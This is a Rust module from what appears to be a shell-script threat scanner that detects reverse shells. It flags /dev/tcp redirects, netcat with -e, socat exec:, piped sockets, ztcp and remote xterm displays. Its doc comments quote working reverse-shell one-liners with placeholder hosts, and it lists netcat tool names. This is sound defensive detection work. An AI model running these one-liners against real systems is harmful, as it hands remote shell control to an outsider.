//! A shell whose input and output lie in somebody else's hands (MITRE ATT&CK T1059.004, GTFOBins "reverse shell").

use super::execution::reads_script;
use super::{At, SHELLS};
use crate::threats::code::shell::script::{Call, RedirectKind, base_name};

const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet"];

pub(super) fn check(at: At<'_>) -> bool {
    by_device(at) || by_netcat(at.call()) || by_socat(at.call()) || by_pipe(at) || by_module(at)
}

/// `bash -i >& /dev/tcp/host/port 0>&1`, `exec 5<>/dev/tcp/host/port`
fn by_device(at: At<'_>) -> bool {
    let is_device = |path: &str| {
        let rest = path.strip_prefix("/dev/tcp/").or_else(|| path.strip_prefix("/dev/udp/"));
        rest.is_some_and(|rest| !["localhost/", "127.0.0.1/", "::1/"].iter().any(|here| rest.starts_with(here)))
    };
    let call = at.call();
    at.command().redirects.iter().any(|redirect| {
        let opens_both = redirect.kind == RedirectKind::Both;
        let is_shell =
            call.is(SHELLS) && !call.args().iter().any(|word| super::execution::takes_code(&call.name, &word.text));
        is_device(&redirect.target.text) && (opens_both || is_shell)
    })
}

/// `nc -e /bin/sh host port`
fn by_netcat(call: &Call<'_>) -> bool {
    if !call.is(NETCATS) {
        return false;
    }
    let starts_shell = |text: &str| {
        let first = text.split_ascii_whitespace().next().unwrap_or_default();
        SHELLS.contains(&&*base_name(first))
    };
    let args = call.args();
    args.windows(2).any(|pair| {
        let option = &*pair[0].text;
        let runs = matches!(option, "--exec" | "--sh-exec" | "--lua-exec")
            || option.starts_with('-') && !option.starts_with("--") && option.ends_with(['e', 'c']);
        runs && (starts_shell(&pair[1].text) || option.ends_with('e') && pair[1].text.starts_with('/'))
    }) || args
        .iter()
        .any(|word| word.text.strip_prefix("--exec=").or_else(|| word.text.strip_prefix("--sh-exec=")).is_some())
}

/// `socat tcp:host:port exec:sh`
fn by_socat(call: &Call<'_>) -> bool {
    let has = |kinds: &[&str]| {
        call.args().iter().any(|word| {
            let text = word.text.to_ascii_lowercase();
            kinds.iter().any(|kind| text.starts_with(kind))
        })
    };
    call.is(&["socat"]) && has(&["exec:", "system:"]) && has(&["tcp", "udp", "openssl", "ssl", "sctp"])
}

/// A bare socket piped into a shell, or a shell into one that is fed by a named pipe.
fn by_pipe(at: At<'_>) -> bool {
    let call = at.call();
    let is_socket =
        |call: &Call<'_>| call.is(NETCATS) || call.is(&["openssl"]) && call.has(&["s_client"]) || call.is(&["socat"]);
    let Some(feeder) = at.feeder() else { return false };
    let takes_orders = reads_script(call) || call.is(SHELLS);
    if takes_orders && is_socket(feeder.call()) {
        return true;
    }
    // What a shell says goes out; a pipe with a name brings what it is told.
    let is_shell = |call: &Call<'_>| {
        call.is(SHELLS) && !call.args().iter().any(|word| super::execution::takes_code(&call.name, &word.text))
    };
    is_socket(call) && is_shell(feeder.call()) && (at.scene.makes_pipe || feeder.call().has(&["-i"]))
}

/// A shell's own sockets, or another display.
fn by_module(at: At<'_>) -> bool {
    let call = at.call();
    call.is(&["ztcp"])
        || call.is(&["xterm"]) && call.value_of(&["-display"]).is_some_and(|display| !display.starts_with(':'))
}
